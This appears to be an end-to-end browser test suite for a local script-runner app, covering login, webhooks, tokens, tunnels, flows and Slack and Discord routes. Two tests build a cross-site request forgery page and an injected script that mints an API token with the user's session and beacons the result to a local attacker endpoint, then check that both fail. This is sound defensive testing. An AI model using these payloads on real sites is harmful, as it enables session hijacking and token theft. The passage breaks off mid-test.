// A new user's first minutes, in a real browser: log in with the one-time
// URL, write a script, copy its sync URL, call it, watch the run appear
// live, open it; then make a webhook token and check its secret is never
// shown again. Screenshots of every page go to test-results/.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { chromium } from "playwright-core";
import crypto from "node:crypto";

const loginUrl = process.env.LOGIN_URL;
const base = new URL(loginUrl).origin;
const shots = process.env.SHOTS;
let browser, context, page;
const pageErrors = []; // a raw JavaScript error must never reach the user

before(async () => {
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM,
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
      "--disable-component-update", "--disable-sync"],
  });
  context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: base });
  page = await context.newPage();
  page.on("pageerror", (e) => {
    console.error("page error:", e.message);
    pageErrors.push(e.message);
  });
});

after(async () => {
  await browser?.close();
});

const shot = (name) => page.screenshot({ path: `${shots}/${name}.png`, fullPage: true });

let syncUrl = "";
let webhookToken = "";
const scriptName = `hello_e2e`;

test("the one-time login URL logs in and shows the empty Scripts page", async () => {
  await page.goto(loginUrl);
  await page.getByRole("heading", { name: "Scripts" }).waitFor();
  assert.equal(new URL(page.url()).search, "", "the token must not stay in the address bar");
  await page.getByText("No scripts yet").waitFor();
  await shot("01-scripts-empty");
  // The link works once.
  const again = await page.request.get(loginUrl, { maxRedirects: 0 });
  assert.equal(again.status(), 401);
  assert.match(again.headers()["content-type"], /text\/html/);
  assert.match(await again.text(), /A login link works once/);
});

test("a new Python script is saved and gets its webhook URLs", async () => {
  await page.getByRole("button", { name: "Create your first script" }).click();
  const path = page.locator("#path");
  const prefilled = await path.inputValue();
  assert.match(prefilled, /^u\/[a-z0-9_.-]+\/$/, "path prefilled with u/<os user>/");
  await path.fill(prefilled + scriptName);
  await page.locator(".cm-content").waitFor(); // the editor loads lazily
  await shot("02-new-script");
  await page.keyboard.press("Control+s");
  await page.getByTestId("sync-path-url").waitFor();
  syncUrl = (await page.getByTestId("sync-path-url").textContent()).trim();
  assert.equal(syncUrl, `${base}/api/w/local/jobs/run_wait_result/p/${prefilled}${scriptName}`);
  assert.match(await page.getByTestId("sync-hash-url").textContent(), /run_wait_result\/h\/[0-9a-f]{16}$/);
  const copy = page.locator(".url", { has: page.getByTestId("sync-path-url") }).getByRole("button", { name: "Copy" });
  await copy.click();
  await page.getByRole("button", { name: "Copied ✓" }).first().waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), syncUrl);
  await shot("03-script-webhooks");
});

test("a webhook token is made in one click and shown once", async () => {
  await page.getByRole("button", { name: "Create a token for this webhook" }).click();
  webhookToken = (await page.getByTestId("new-webhook-token").textContent()).trim();
  assert.match(webhookToken, /^[A-Za-z0-9]{32}$/);
  assert.ok((await page.getByTestId("curl-snippet").textContent()).includes(`Bearer ${webhookToken}`), "the snippet uses the new token");
  await shot("04-webhook-token");
});

test("calling the sync URL runs the script and the run appears live", async () => {
  await page.goto(`${base}/#/runs`);
  await page.getByRole("heading", { name: "Runs" }).waitFor();
  await page.getByText("No runs yet").waitFor();
  const res = await fetch(syncUrl, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` },
    body: JSON.stringify({ name: "e2e" }),
  });
  assert.equal(res.status, 200);
  assert.deepEqual(await res.json(), { greeting: "hello e2e" });
  const row = page.getByTestId("run-row").first();
  await row.waitFor({ timeout: 10000 }); // pushed by the server, no reload
  await page.getByTestId("run-row").first().locator(".badge.success").waitFor({ timeout: 10000 });
  await shot("05-runs");
  await row.click();
  await page.getByTestId("detail-result").waitFor();
  assert.deepEqual(JSON.parse(await page.getByTestId("detail-result").textContent()), { greeting: "hello e2e" });
  assert.match(await page.getByTestId("detail-logs").textContent(), /saying hello to e2e/);
  await shot("06-run-detail");
});

test("the script can be run from its page with live logs", async () => {
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  await page.locator("#arg-name").fill("form");
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await page.getByTestId("run-result").waitFor({ timeout: 15000 });
  assert.deepEqual(JSON.parse(await page.getByTestId("run-result").textContent()), { greeting: "hello form" });
  assert.match(await page.getByTestId("run-logs").textContent(), /saying hello to form/);
  await shot("07-run-form");
});

test("the token's secret is never shown again", async () => {
  await page.goto(`${base}/#/tokens`);
  await page.getByTestId("token-row").first().waitFor();
  const html = await page.content();
  assert.ok(!html.includes(webhookToken), "the Tokens page shows the secret");
  assert.ok(html.includes(webhookToken.slice(0, 10)), "the Tokens page shows the prefix");
  await shot("08-tokens");
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  await page.getByTestId("sync-path-url").waitFor();
  assert.ok(!(await page.content()).includes(webhookToken), "the script page shows the secret after a reload");
});

test("the Scripts list shows each script's last run and run count live", async () => {
  await page.goto(`${base}/#/scripts`);
  const row = page.locator("tr", { hasText: scriptName });
  await row.waitFor();
  const runs = async () => Number((await row.locator("td").nth(4).textContent()).trim());
  const before = await runs();
  const res = await fetch(syncUrl, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` },
    body: JSON.stringify({ name: "list" }),
  });
  assert.equal(res.status, 200);
  await page.waitForFunction(
    ([name, n]) => [...document.querySelectorAll("tr")].some((tr) => tr.textContent.includes(name) && tr.cells[4]?.textContent.trim() === String(n)),
    [scriptName, before + 1],
    { timeout: 10000 },
  );
  assert.equal(await row.locator(".badge.success").count(), 1);
  await shot("12-scripts-list");
});

test("the tunnel's IP allowlist is checked in words and kept", async () => {
  await page.goto(`${base}/#/tunnel`);
  await page.locator("#allow").fill("203.0.113.9\nslack.com");
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByRole("alert").filter({ hasText: '"slack.com" is neither an IP address nor a CIDR range' }).waitFor();
  await page.locator("#allow").fill("203.0.113.9\n198.51.100.0/24");
  await page.getByRole("button", { name: "Save" }).click();
  await page.waitForFunction(() => document.querySelector("#allow").value === "203.0.113.9/32\n198.51.100.0/24");
  await page.reload();
  await page.waitForFunction(() => document.querySelector("#allow")?.value === "203.0.113.9/32\n198.51.100.0/24");
  // Back to open, for the tests after this one.
  await page.locator("#allow").fill("");
  await page.getByRole("button", { name: "Save" }).click();
  await page.waitForFunction(() => document.querySelector("#allow").value === "");
});

test("settings, tunnel and flows pages render", async () => {
  await page.goto(`${base}/#/settings`);
  await page.getByRole("heading", { name: "Interpreters" }).waitFor();
  // The address is shown as it is, with the command that sets it.
  assert.ok((await page.getByTestId("listen-address").textContent()).includes(`--listen ${new URL(base).host}`));
  assert.equal(await page.locator("#s5").inputValue(), "10", "body limit shown in MiB");
  await shot("09-settings");
  await page.goto(`${base}/#/tunnel`);
  await page.getByTestId("tunnel-state").waitFor();
  assert.equal((await page.getByTestId("tunnel-state").textContent()).trim(), "off");
  // Pasting an authtoken is enough to start: one click saves and starts
  // (not clicked here: tests never reach the internet).
  const startButton = page.getByRole("button", { name: "Save and start" });
  await page.locator("#authtoken").fill("2abcDEFfake_authtoken_for_the_button_only");
  assert.equal(await startButton.isEnabled(), true);
  await page.locator("#authtoken").fill("");
  await shot("10-tunnel");
  await page.goto(`${base}/#/flows`);
  await page.getByText("No flows yet").waitFor();
  await shot("11-flows");
});

test("a 900 px window and dark mode keep every page usable", async () => {
  await page.setViewportSize({ width: 900, height: 700 });
  await page.emulateMedia({ colorScheme: "dark" });
  const scriptPage = syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/");
  for (const [name, url, ready] of [
    ["scripts", `${base}/#/scripts`, () => page.getByRole("button", { name: "New script" })],
    ["script", scriptPage, () => page.getByTestId("sync-path-url")],
    ["runs", `${base}/#/runs`, () => page.getByTestId("run-row").first()],
    ["tokens", `${base}/#/tokens`, () => page.getByTestId("token-row").first()],
    ["settings", `${base}/#/settings`, () => page.getByRole("heading", { name: "Interpreters" })],
    ["requests", `${base}/#/requests`, () => page.getByTestId("request-row").first()],
    ["tunnel", `${base}/#/tunnel`, () => page.getByTestId("tunnel-state")],
    ["new-flow", `${base}/#/flows/new`, () => page.getByTestId("flow-step").first()],
    ["new-script", `${base}/#/scripts/new`, () => page.locator(".cm-content")],
    ["variables", `${base}/#/variables`, () => page.getByRole("heading", { name: "New variable" })],
    ["schedules", `${base}/#/schedules`, () => page.getByRole("heading", { name: "Schedules" })],
  ]) {
    await page.goto(url);
    await ready().waitFor();
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    assert.ok(overflow <= 0, `${name}: the page is ${overflow}px wider than a 900px window`);
    // Every button is inside the window (none cut off at the right).
    const cut = await page.evaluate(() => [...document.querySelectorAll("button")]
      .filter((b) => b.offsetParent !== null && b.getBoundingClientRect().right > window.innerWidth + 0.5)
      .map((b) => b.getAttribute("aria-label") || b.textContent.trim()));
    assert.deepEqual(cut, [], `${name}: buttons cut off at 900px`);
    await shot(`13-small-dark-${name}`);
  }
  const bg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const [r, g, b] = bg.match(/\d+/g).map(Number);
  assert.ok(r + g + b < 150, `dark mode background is ${bg}`);
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 900 });
});

// The tunnel itself is tested in Go against a loopback fake (tests never
// reach the internet); here its states, as the server pushes them, drive
// the UI: the public URLs in the webhook panel, the Tunnel page, the badge.
test("a tunnel going online shows public URLs; its errors show in plain words", async () => {
  const pushTunnel = (...states) =>
    page.route("**/api/millrun/tunnel/events", (route) =>
      route.fulfill({
        status: 200,
        contentType: "text/event-stream",
        body: "retry: 60000\n\n" + states.map((s) => `event: status\ndata: ${JSON.stringify({
          since: new Date().toISOString(), authtoken_hint: "2ab…xyz", authtoken_source: "settings", domain: "", autostart: false, ...s,
        })}\n\n`).join(""),
      }));
  const publicBase = "https://millrun-e2e.ngrok.app";
  await pushTunnel({ state: "connecting" }, { state: "online", url: publicBase });
  const scriptPage = syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/");
  await page.goto(scriptPage);
  await page.reload(); // the tunnel watch starts with the app
  const pub = page.getByTestId("public-sync-path-url");
  await pub.waitFor();
  assert.equal((await pub.textContent()).trim(), syncUrl.replace(base, publicBase));
  await page.getByRole("link", { name: "tunnel online" }).waitFor();
  await shot("14-public-urls");
  await page.goto(`${base}/#/tunnel`);
  assert.equal((await page.getByTestId("tunnel-state").textContent()).trim(), "online");
  await page.getByText(publicBase).first().waitFor();
  await page.unroute("**/api/millrun/tunnel/events");

  const reason = "ngrok rejected the authtoken: check it at dashboard.ngrok.com (ERR_NGROK_105)";
  await pushTunnel({ state: "error", error: reason });
  await page.reload();
  await page.getByRole("alert").filter({ hasText: reason }).waitFor();
  await shot("15-tunnel-error");
  await page.unroute("**/api/millrun/tunnel/events");
  await page.reload(); // back to the real state: off
  assert.equal((await page.getByTestId("tunnel-state").textContent()).trim(), "off");
});

test("a flow is written, answers early through its webhook, and its steps show on the run page", async () => {
  await page.goto(`${base}/#/flows`);
  await page.getByRole("button", { name: "Create a flow" }).click();
  const fpath = page.locator("#fpath");
  await fpath.fill((await fpath.inputValue()) + "e2e_flow");
  // Steps are cards: the example's two, the first answering the caller.
  const cards = page.getByTestId("flow-step");
  await cards.nth(1).waitFor();
  assert.equal(await cards.count(), 2);
  assert.equal(await cards.nth(0).getByRole("checkbox", { name: /Answer the caller/ }).isChecked(), true);
  assert.equal(await cards.nth(0).getByRole("textbox", { name: "Value of text" }).inputValue(), "flow_input.text");
  await page.getByRole("button", { name: "Add a Bash step" }).click();
  assert.equal(await cards.count(), 3);
  await cards.nth(2).getByRole("textbox", { name: "Id" }).fill("2bad");
  await page.getByTestId("flow-problem").filter({ hasText: "letters, digits" }).waitFor();
  // The JSON view edits the same definition; a broken one is refused
  // before it reaches the server.
  page.once("dialog", (d) => d.accept());
  await cards.nth(2).getByRole("button", { name: /Remove step/ }).click();
  await page.getByRole("tab", { name: /JSON/ }).click();
  const def = page.locator("#fdef");
  const example = await def.inputValue();
  assert.ok(!example.includes("2bad"), "the removed step is gone from the JSON too");
  await def.fill(example + "}");
  await page.getByText("Not valid JSON yet").waitFor();
  assert.equal(await page.getByRole("button", { name: "Save" }).isDisabled(), true);
  await def.fill(example);
  await page.getByRole("tab", { name: "Steps" }).click();
  await cards.nth(1).waitFor();
  await page.getByRole("button", { name: "Save" }).click();
  const url = page.getByTestId("sync-path-url");
  await url.waitFor();
  const flowUrl = (await url.textContent()).trim();
  assert.match(flowUrl, /\/api\/w\/local\/jobs\/run_wait_result\/f\/u\/[^/]+\/e2e_flow$/);
  await shot("16-flow");

  const res = await fetch(flowUrl, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` },
    body: JSON.stringify({ text: "deploy" }),
  });
  // The webhook token is scoped to the script, not this flow.
  assert.equal(res.status, 401);
  await page.getByRole("button", { name: "Create a token for this webhook" }).click();
  const flowToken = (await page.getByTestId("new-webhook-token").textContent()).trim();
  const ok = await fetch(flowUrl, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${flowToken}` },
    body: JSON.stringify({ text: "deploy" }),
  });
  assert.equal(ok.status, 200);
  assert.deepEqual(await ok.json(), { text: "on it: deploy" }, "the early return's result");

  await page.goto(`${base}/#/runs`);
  await page.getByTestId("run-row").filter({ hasText: "e2e_flow" }).first().click();
  const steps = page.locator("section", { has: page.getByRole("heading", { name: "Steps" }) });
  await steps.locator("tr", { hasText: "ack" }).waitFor();
  await steps.locator("tr", { hasText: "work" }).locator(".badge.success").waitFor({ timeout: 15000 });
  assert.match(await page.getByTestId("early-answer").textContent(), /answered after \d+ ms, at step ack/);
  await shot("17-flow-run");
  await steps.locator("tr", { hasText: "work" }).getByRole("link", { name: "open step" }).click();
  await page.getByTestId("detail-logs").filter({ hasText: "working" }).waitFor();
});

test("a warm worker is switched on with a plain warning and shows in the list", async () => {
  const scriptPage = syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/");
  await page.goto(scriptPage);
  await page.getByTestId("sync-path-url").waitFor();
  await page.getByLabel(/Warm worker/).check();
  await page.getByText("module-level variables keep their values").waitFor();
  await page.keyboard.press("Control+s");
  await page.getByText(/Saved/).first().waitFor();
  const res = await fetch(syncUrl, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` },
    body: JSON.stringify({ name: "warm" }),
  });
  assert.deepEqual(await res.json(), { greeting: "hello warm" });
  await page.goto(`${base}/#/scripts`);
  await page.locator("tr", { hasText: scriptName }).locator(".badge", { hasText: "warm" }).waitFor();
  await shot("18-warm");
});

test("a Discord route is made in a few clicks and answers Discord's checks itself", async () => {
  const { publicKey, privateKey } = crypto.generateKeyPairSync("ed25519");
  const pubHex = Buffer.from(publicKey.export({ format: "jwk" }).x, "base64url").toString("hex");
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  await page.getByRole("button", { name: "Add a route" }).click();
  await page.locator("#route-auth").selectOption("discord");
  assert.equal(await page.locator("#route-path").inputValue(), `discord/${scriptName}`);
  await page.locator("#route-secret").fill("not-a-key");
  await page.getByTestId("route-problem").filter({ hasText: "64 hexadecimal" }).waitFor();
  assert.equal(await page.getByRole("button", { name: "Create route" }).isDisabled(), true);
  await page.locator("#route-secret").fill(pubHex);
  await page.getByRole("button", { name: "Create route" }).click();
  const routeUrl = (await page.getByTestId("route-url").first().textContent()).trim();
  assert.equal(routeUrl, `${base}/api/r/discord/${scriptName}`);
  await page.getByTestId("route-row").getByText("Discord signature").waitFor();
  await shot("19-route");

  const signed = (body) => {
    const ts = String(Math.floor(Date.now() / 1000));
    return { "Content-Type": "application/json", "X-Signature-Timestamp": ts,
      "X-Signature-Ed25519": crypto.sign(null, Buffer.from(ts + body), privateKey).toString("hex") };
  };
  const ping = JSON.stringify({ type: 1, id: "1" });
  let res = await fetch(routeUrl, { method: "POST", headers: signed(ping), body: ping });
  assert.equal(res.status, 200);
  assert.deepEqual(await res.json(), { type: 1 });
  const forged = { ...signed(ping), "X-Signature-Ed25519": "00".repeat(64) };
  res = await fetch(routeUrl, { method: "POST", headers: forged, body: ping });
  assert.equal(res.status, 401, "Discord requires bad signatures to be refused");
  const cmd = JSON.stringify({ name: "discord" });
  res = await fetch(routeUrl, { method: "POST", headers: signed(cmd), body: cmd });
  assert.deepEqual(await res.json(), { greeting: "hello discord" });
});

test("a Slack route answers a signed slash command within Slack's 3 seconds", async () => {
  const secret = "e2e-signing-secret-0123456789";
  await page.getByRole("button", { name: "Add a route" }).click();
  await page.locator("#route-auth").selectOption("slack");
  await page.locator("#route-secret").fill(secret);
  await page.getByRole("button", { name: "Create route" }).click();
  const url = `${base}/api/r/slack/${scriptName}`;
  await page.getByTestId("route-url").filter({ hasText: url }).waitFor();
  const body = "command=%2Fhello&name=slack&user_name=ann";
  const ts = String(Math.floor(Date.now() / 1000));
  const sig = "v0=" + crypto.createHmac("sha256", secret).update(`v0:${ts}:${body}`).digest("hex");
  const started = Date.now();
  const res = await fetch(url, { method: "POST", body,
    headers: { "Content-Type": "application/x-www-form-urlencoded", "X-Slack-Request-Timestamp": ts, "X-Slack-Signature": sig } });
  const took = Date.now() - started;
  assert.equal(res.status, 200);
  assert.deepEqual(await res.json(), { greeting: "hello slack" });
  assert.ok(took < 3000, `answered in ${took} ms`);
  console.log(`slash command answered in ${took} ms`);
});

test("the Requests page shows every call live, why one was refused, and replays one", async () => {
  await page.goto(`${base}/#/requests`);
  await page.getByTestId("request-row").first().waitFor();
  // A refused call arrives while the page is open (rows are pushed by the
  // server; earlier calls may still be arriving too).
  const refused = page.getByTestId("request-row").filter({ hasText: "missing X-Slack-Request-Timestamp" });
  assert.equal(await refused.count(), 0);
  await fetch(`${base}/api/r/slack/${scriptName}`, { method: "POST", body: "name=forged", headers: { "Content-Type": "application/x-www-form-urlencoded" } });
  await refused.first().waitFor({ timeout: 10000 });
  assert.match(await refused.first().textContent(), /401/);
  await shot("20-requests");

  // Replay the signed slash command: a new run with the same arguments.
  await page.getByTestId("request-row").filter({ hasText: "slack signature verified" }).first().click();
  await page.getByTestId("request-form").filter({ hasText: "slack" }).waitFor(); // a form, shown as its fields
  assert.ok(!(await page.getByTestId("request-headers").textContent()).includes(webhookToken));
  assert.match(await page.getByTestId("request-curl").textContent(), /--data-binary 'command=%2Fhello&name=slack&user_name=ann'/);
  await page.getByRole("button", { name: "Replay" }).click();
  const result = page.getByTestId("replay-result");
  await result.waitFor({ timeout: 15000 });
  assert.match(await result.textContent(), /answered 200/);
  assert.match(await result.textContent(), /hello slack/);
  await shot("21-request-replayed");
  await result.getByRole("link", { name: "Open the new run" }).click();
  await page.getByTestId("detail-result").waitFor();
  assert.deepEqual(JSON.parse(await page.getByTestId("detail-result").textContent()), { greeting: "hello slack" });
  await page.getByTestId("run-request").filter({ hasText: "replay from the UI" }).waitFor();
});

test("a page on another localhost port cannot run scripts through the logged-in browser", async () => {
  const http = await import("node:http");
  const asyncUrl = syncUrl.replace("/run_wait_result/", "/run/");
  const attack = `<!doctype html><body>
<form id="f" method="POST" action="${asyncUrl}" enctype="text/plain"><input name='{"name":"attack","x":"' value='"}'></form>
<img src="${syncUrl}?include_query=mark&mark=img">
<script>setTimeout(() => document.getElementById("f").submit(), 300)</script></body>`;
  const server = http.createServer((req, res) => { res.setHeader("Content-Type", "text/html"); res.end(attack); });
  await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
  const evil = await context.newPage();
  try {
    await evil.goto(`http://127.0.0.1:${server.address().port}/`);
    await evil.waitForURL((u) => u.port !== String(server.address().port), { timeout: 5000 }); // the form went
    await evil.waitForTimeout(1000);
  } finally {
    await evil.close();
    server.close();
  }
  // The user's own page, same origin, still works with the same cookie.
  await page.goto(`${base}/#/runs`);
  const jobs = await page.evaluate(async () => {
    const r = await fetch("/api/w/local/jobs/completed/list?per_page=200");
    return r.ok ? r.json() : { status: r.status };
  });
  assert.ok(Array.isArray(jobs), `the UI's own request was refused: ${JSON.stringify(jobs)}`);
  const forged = jobs.filter((j) => j.created_by === "browser session" && (j.args?.name === "attack" || j.args?.mark === "img"));
  assert.equal(forged.length, 0, `another port's page ran the script as the user: ${JSON.stringify(forged)}`);
});

test("a script's HTML opened from another page cannot act as the UI: no token is minted", async () => {
  const http = await import("node:http");
  await page.goto(`${base}/#/scripts`);
  const api = (method, path, body) => page.evaluate(async ([method, path, body]) => {
    const r = await fetch(path, { method, headers: { "Content-Type": "application/json" }, body: body && JSON.stringify(body) });
    return { status: r.status, text: await r.text() };
  }, [method, path, body]);
  let r = await api("POST", "/api/w/local/scripts/create", { path: "u/e2e/html_page", language: "python3",
    content: "def main(name: str = ''):\n    return {'windmill_content_type': 'text/html', 'result': '<p>hello ' + name + '</p>'}\n" });
  assert.equal(r.status, 201, r.text);
  r = await api("POST", "/api/w/local/http_triggers/create", { path: "u/e2e/html_page", script_path: "u/e2e/html_page",
    route_path: "pages/hello", http_method: "get", authentication_method: "none" });
  assert.equal(r.status, 201, r.text);
  const tokenCount = async () => JSON.parse((await api("GET", "/api/users/tokens/list")).text).length;
  const tokensBefore = await tokenCount();

  const reports = [];
  const server = http.createServer((req, res) => {
    const u = new URL(req.url, "http://x");
    if (u.pathname === "/report") reports.push(u.searchParams.get("r"));
    res.setHeader("Content-Type", "text/html");
    res.end(attackPage);
  });
  await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
  const report = `http://127.0.0.1:${server.address().port}/report`;
  // What the page injects: mint a token with the browser's session and
  // send whatever comes back to the attacker.
  const injected = `<script>
new Image().src = "${report}?r=" + encodeURIComponent("ran:" + self.origin);
fetch("/api/users/tokens/create", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" },
  body: JSON.stringify({ label: "pwned" }) })
  .then(async (x) => { new Image().src = "${report}?r=" + encodeURIComponent(x.status + ":" + await x.text()); })
  .catch((e) => { new Image().src = "${report}?r=" + encodeURIComponent("error:" + e); });
</script>`;
  const payload = encodeURIComponent(Buffer.from(JSON.stringify({ name: injected })).toString("base64"));
  const target = `${base}/api/r/pages/hello?payload=${payload}`;
  const attackPage = `<!doctype html><body><script>location.href = ${JSON.stringify(target)}</script></body>`;
  const evil = await context.newPage();
  try {
    await evil.goto(`http://127.0.0.1:${server.address().port}/`);
    await evil.waitForURL((u) => u.pathname === "/api/r/pages/hello", { timeout: 10000 });
    // The injected script runs (in a sandbox) and reports both its start
    // and its attempt.
    for (let i = 0; i < 100 && reports.length < 2; i++) await evil.waitForTimeout(100);
  } finally {
    await evil.close();
    server.close();
  }
  assert.ok(reports.some((x) => x.startsWith("ran:")), `the page's script never ran, so this test proves nothing: ${JSON.stringify(reports)}`);
  assert.ok(reports.some((x) => x === "ran:null"), `the script's page ran on millrun's origin instead of an opaque one: ${JSON.stringify(reports)}`);
  assert.ok(!reports.some((x) => /^20\d:/.test(x)), `the script's page minted a token: ${JSON.stringify(reports)}`);
  assert.equal(await tokenCount(), tokensBefore, "a token was minted");
  const audit = await api("GET", "/api/millrun/audit");
  assert.ok(!audit.text.includes("pwned"), `the audit log shows a token made by the page: ${audit.text.slice(0, 300)}`);
});

const editorText = () => page.locator(".cm-content").textContent();

test("a template shows its code at once; language and template stay in step; unsaved work is not lost silently", async () => {
  const dialogs = [];
  const onDialog = (d) => {
    dialogs.push(d.message());
    d.dismiss();
  };
  page.on("dialog", onDialog);
  try {
    await page.goto(`${base}/#/scripts/new`);
    await page.locator(".cm-content").waitFor();
    await page.locator("#tpl").selectOption("slack");
    await page.locator(".cm-content", { hasText: "Slack posts slash commands" }).waitFor({ timeout: 5000 });
    await page.locator("#tpl").selectOption("discord");
    await page.locator(".cm-content", { hasText: "Discord sends interactions" }).waitFor({ timeout: 5000 });
    assert.deepEqual(dialogs, [], "switching templates with nothing typed must not ask");
    await page.locator("#lang").selectOption("bash");
    await page.locator(".cm-content", { hasText: "saying hello to $name" }).waitFor({ timeout: 5000 });
    assert.equal(await page.locator("#tpl").inputValue(), "hello-bash", "the template follows the language");
    await shot("22-template-bash");

    // Typed text is the user's: a template asks before replacing it, and
    // leaving the page asks before dropping it.
    await page.locator(".cm-content").click();
    await page.keyboard.press("Control+End");
    await page.keyboard.type("# mine");
    await page.locator("#tpl").selectOption("hello-python");
    assert.match(dialogs.at(-1) ?? "", /Replace your text/);
    assert.match(await editorText(), /# mine/);
    assert.equal(await page.locator("#tpl").inputValue(), "hello-bash");
    assert.equal(await page.locator("#lang").inputValue(), "bash");
    await page.getByRole("link", { name: "Runs" }).click();
    await page.waitForTimeout(300);
    assert.match(dialogs.at(-1) ?? "", /Leave without saving/);
    assert.match(new URL(page.url()).hash, /^#\/scripts\/new/, "dismissing the question stays on the script");
    assert.match(await editorText(), /# mine/);
  } finally {
    page.off("dialog", onDialog);
  }
  page.once("dialog", (d) => d.accept());
  await page.getByRole("link", { name: "Runs" }).click();
  await page.getByRole("heading", { name: "Runs" }).waitFor();
});

test("Tab leaves the code editor after Esc; the editor is named and shows focus", async () => {
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  const code = page.getByRole("textbox", { name: "Script code" });
  await code.click();
  const ring = await page.evaluate(() => getComputedStyle(document.querySelector(".cm-editor.cm-focused")).outlineWidth);
  assert.equal(ring, "2px", "the focused editor shows a focus ring");
  assert.match(await page.getByTestId("editor-tab-hint").first().textContent(), /Esc, then Tab/);
  await page.keyboard.press("Tab");
  assert.ok(await page.evaluate(() => document.activeElement.closest(".cm-editor") !== null), "Tab indents inside the editor");
  await page.keyboard.press("Escape");
  await page.keyboard.press("Tab");
  const focused = await page.evaluate(() => ({ inEditor: document.activeElement.closest(".cm-editor") !== null, tag: document.activeElement.tagName }));
  assert.equal(focused.inEditor, false, `Esc then Tab must leave the editor (focus on ${focused.tag})`);
  // Copy buttons say what they copy.
  await page.getByRole("button", { name: "Copy sync URL by path (latest)" }).waitFor();
  // The Tab typed into the editor is an unsaved edit: leaving asks.
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.accept();
  });
  await page.getByRole("link", { name: "Runs" }).click();
  await page.getByRole("heading", { name: "Runs" }).waitFor();
  assert.match(asked, /Leave without saving/);
});

test("the Runs page loads ten times while jobs stream in, without an error", async () => {
  const asyncUrl = syncUrl.replace("/run_wait_result/", "/run/");
  let sending = true;
  const sender = (async () => {
    while (sending) {
      await fetch(asyncUrl, { method: "POST", headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` }, body: "{}" });
      await new Promise((r) => setTimeout(r, 40));
    }
  })();
  const before = pageErrors.length;
  try {
    for (let i = 0; i < 10; i++) {
      if (i === 0) await page.goto(`${base}/#/runs`);
      else await page.reload();
      await page.getByTestId("run-row").first().waitFor();
      await page.waitForTimeout(150);
      const alerts = await page.getByRole("alert").allTextContents();
      assert.deepEqual(alerts, [], `load ${i + 1} of Runs showed an error`);
    }
  } finally {
    sending = false;
    await sender;
  }
  assert.deepEqual(pageErrors.slice(before), [], "JavaScript errors while Runs loaded");
});

test("replaying a refused request says why it was refused and asks before running it", async () => {
  await page.goto(`${base}/#/requests`);
  await page.getByTestId("request-row").first().waitFor();
  // A request refused on its headers alone is never read, so nothing of
  // it could be replayed; this one is well formed, its signature forged:
  // its body was read to check it, and is kept.
  await fetch(`${base}/api/r/slack/${scriptName}`, { method: "POST", body: "name=forged", headers: {
    "Content-Type": "application/x-www-form-urlencoded", "X-Slack-Request-Timestamp": String(Math.floor(Date.now() / 1000)),
    "X-Slack-Signature": "v0=" + "0".repeat(64) } });
  await page.getByTestId("request-row").filter({ hasText: "signature does not match" }).first().click();
  await page.getByTestId("refused-replay-note").waitFor();
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.dismiss();
  });
  await page.getByRole("button", { name: "Replay anyway…" }).click();
  await page.waitForTimeout(300);
  assert.match(asked, /refused: the Slack signature does not match/);
  assert.equal(await page.getByTestId("replay-result").count(), 0, "dismissed, nothing must run");
  page.once("dialog", (d) => d.accept());
  await page.getByRole("button", { name: "Replay anyway…" }).click();
  const result = page.getByTestId("replay-result");
  await result.waitFor({ timeout: 15000 });
  assert.match(await result.textContent(), /hello forged/);
  await shot("23-refused-replay");
});

test("no page raised a JavaScript error in any journey", async () => {
  assert.deepEqual(pageErrors, []);
});

test("a script saved from the Slack template offers its route first and says where to paste the URL", async () => {
  await page.goto(`${base}/#/scripts/new`);
  await page.locator(".cm-content").waitFor();
  const prefix = await page.locator("#path").inputValue();
  await page.locator("#path").fill(prefix + "slack_cmd");
  await page.locator("#tpl").selectOption("slack");
  await page.locator(".cm-content", { hasText: "Slack posts slash commands" }).waitFor();
  await page.keyboard.press("Control+s");
  await page.getByTestId("route-suggestion").waitFor();
  assert.equal(await page.locator("#route-auth").inputValue(), "slack");
  const panels = await page.locator("section.panel[aria-label]").evaluateAll((els) => els.map((e) => e.getAttribute("aria-label")));
  assert.ok(panels.indexOf("Routes") < panels.indexOf("Webhooks"), `the Routes box comes first: ${panels}`);
  await page.locator("#route-secret").fill("8f14e45fceea167a5a36dedd4bea2543");
  await page.getByRole("button", { name: "Create route" }).click();
  const paste = page.getByTestId("route-paste");
  await page.getByTestId("route-paste").filter({ hasText: "Request URL" }).waitFor();
  assert.match(await paste.textContent(), /Slash Commands → your command → Request URL/);
  assert.match(await paste.textContent(), /Slack cannot reach this computer's address: start the tunnel/);
